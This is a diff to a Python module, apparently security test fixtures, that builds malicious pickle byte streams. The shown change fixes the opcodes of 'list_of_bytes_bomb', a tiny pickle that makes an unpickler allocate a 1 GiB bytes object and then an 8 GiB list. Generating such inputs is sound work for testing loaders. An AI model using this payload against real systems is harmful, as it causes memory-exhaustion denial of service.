@@ -91,9 +91,9 @@ def cifar_object_dtype_forgery(count: int = 4) -> bytes:
 
 
 def list_of_bytes_bomb(size: int = 2**30) -> bytes:
-    """``list(bytes(size))`` in about 40 bytes: a 1 GiB bytes object, then 8 GiB of list."""
+    """``list(bytes(size))`` in 45 bytes: a 1 GiB bytes object, then 8 GiB of list."""
     return (PROTO2 + global_("builtins", "list") + MARK + global_("builtins", "bytes")
-            + b"J" + struct.pack("<i", size) + TUPLE1 + REDUCE + TUPLE1 + REDUCE + STOP)
+            + MARK + b"J" + struct.pack("<i", size) + TUPLE + REDUCE + TUPLE + REDUCE + STOP)
 
 
 def bytes_bomb(size: int = 2**40) -> bytes:
